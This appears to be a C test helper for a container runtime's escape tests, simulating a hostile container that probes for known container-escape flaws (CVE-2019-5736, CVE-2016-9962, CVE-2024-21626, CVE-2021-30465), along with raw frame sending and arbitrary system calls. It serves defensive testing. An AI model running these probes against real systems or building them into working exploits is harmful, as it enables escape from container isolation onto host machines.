/* What a hostile container does, for tests/system/test_escapes.py. Runs inside a container (linked
 * statically) or beside one, for MS milliseconds, and changes nothing but what `swap` is asked to:
 *
 *	attack exe MS OWN...		looks for a program of another process that it could overwrite,
 *					other than the files OWN (CVE-2019-5736)
 *	attack fds MS FILE		looks through /proc/PID/fd of others for a way to the host: a
 *					directory that is not below our root, or one above which FILE lies
 *					(CVE-2016-9962, CVE-2024-21626)
 *	attack frames IFACE HEX...	sends these frames as they are
 *	attack swap MS A B		exchanges A and B all the time (CVE-2021-30465)
 *	attack call NR ARG...		makes a system call for each ARG and prints the errors, 0 = none
 *
 * Prints a line and exits with 1 once it has succeeded; `exe` and `fds` begin with a line "ready". */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#define KEPT 64

static long now_ms(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* The program is held open while it runs (ETXTBSY) and tried again afterwards. */
static int kept[KEPT];
static size_t n_kept;
static struct stat own[KEPT];
static size_t n_own;

static bool known(int fd)
{
	struct stat st, other;

	if (fstat(fd, &st) < 0)
		return true;
	for (size_t i = 0; i < n_own; i++)
		if (st.st_dev == own[i].st_dev && st.st_ino == own[i].st_ino)
			return true;
	for (size_t i = 0; i < n_kept; i++)
		if (fstat(kept[i], &other) == 0 && st.st_dev == other.st_dev && st.st_ino == other.st_ino)
			return true;
	return false;
}

static bool try_exe(const char *pid, const char *unused)
{
	char path[64], byte;
	int fd;

	(void)unused;
	snprintf(path, sizeof path, "/proc/%.10s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && n_kept < KEPT && !known(fd))
		kept[n_kept++] = fd;
	else if (fd >= 0)
		close(fd);
	for (size_t i = 0; i < n_kept; i++) {
		snprintf(path, sizeof path, "/proc/self/fd/%d", kept[i]);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		/* A sealed copy in memory can be opened for writing, and not written to. */
		if (fd >= 0 && pread(kept[i], &byte, 1, 0) == 1 && pwrite(fd, &byte, 1, 0) == 1) {
			printf("the program of %s can be overwritten\n", pid);
			return true;
		}
		if (fd >= 0)
			close(fd);
	}
	return false;
}

static bool try_dir(const char *dir, const char *file)
{
	char path[PATH_MAX], cwd[PATH_MAX];
	int fd;

	if (chdir(dir) < 0)
		return false;
	if (syscall(SYS_getcwd, cwd, sizeof cwd) > 0 && cwd[0] != '/') {
		printf("%s is outside: %s\n", dir, cwd);
		return true;
	}
	snprintf(path, sizeof path, "../../../../../../../../%s", file);
	fd = open(path, O_PATH | O_CLOEXEC);
	if (fd >= 0)
		printf("%s leads to the host\n", dir);
	(void)!chdir("/");
	return fd >= 0;
}

static bool try_fds(const char *pid, const char *file)
{
	char dir[64], path[128];
	struct dirent *d;
	bool won = false;
	DIR *all;

	if (atoi(pid) == getpid())
		return false;
	snprintf(dir, sizeof dir, "/proc/%.10s/fd", pid);
	all = opendir(dir);
	while (all && !won && (d = readdir(all))) {
		snprintf(path, sizeof path, "%s/%.10s", dir, d->d_name);
		won = d->d_name[0] != '.' && try_dir(path, file);
	}
	if (all)
		closedir(all);
	return won;
}

static int watch(bool (*attempt)(const char *, const char *), long end, const char *arg)
{
	puts("ready");
	fflush(stdout);
	while (now_ms() < end) {
		DIR *proc = opendir("/proc");
		struct dirent *d;

		while (proc && (d = readdir(proc)))
			if (d->d_name[0] >= '1' && d->d_name[0] <= '9' && attempt(d->d_name, arg))
				return 1;
		if (proc)
			closedir(proc);
	}
	return 0;
}

static int swap(long end, const char *a, const char *b)
{
	while (now_ms() < end)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b, 2 /* RENAME_EXCHANGE */) < 0) {
			perror("attack: exchange");
			return 2;
		}
	return 0;
}

static int frames(const char *iface, char **hex)
{
	int fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_ifindex = (int)if_nametoindex(iface)};

	for (; *hex; hex++) {
		unsigned char frame[2048];
		unsigned byte;
		size_t n = 0;

		while (n < sizeof frame && sscanf(*hex + 2 * n, "%2x", &byte) == 1)
			frame[n++] = (unsigned char)byte;
		if (sendto(fd, frame, n, 0, (struct sockaddr *)&to, sizeof to) != (ssize_t)n) {
			perror("attack: send");
			return 2;
		}
	}
	return 0;
}

static int call(long nr, char **args)
{
	for (; *args; args++) {
		errno = 0;
		(void)syscall(nr, strtoull(*args, NULL, 0), 0, 0, 0, 0, 0);
		printf("%d\n", errno);
	}
	return 0;
}

int main(int argc, char **argv)
{
	long end = argc > 2 ? now_ms() + atol(argv[2]) : 0;

	if (argc >= 4 && !strcmp(argv[1], "call"))
		return call(atol(argv[2]), argv + 3);
	if (argc == 5 && !strcmp(argv[1], "swap"))
		return swap(end, argv[3], argv[4]);
	if (argc > 3 && !strcmp(argv[1], "frames"))
		return frames(argv[2], argv + 3);
	if (argc == 4 && !strcmp(argv[1], "fds"))
		return watch(try_fds, end, argv[3]);
	if (argc < 3 || strcmp(argv[1], "exe")) {
		fprintf(stderr, "usage: attack exe MS OWN... | fds MS FILE | frames IFACE HEX... | "
				"swap MS A B | call NR ARG...\n");
		return 2;
	}
	for (int i = 3; i < argc && n_own < KEPT; i++)
		if (stat(argv[i], &own[n_own]) == 0)
			n_own++;
	if (stat("/proc/self/exe", &own[n_own]) == 0 && n_own < KEPT - 1)
		n_own++;
	return watch(try_exe, end, NULL);
}
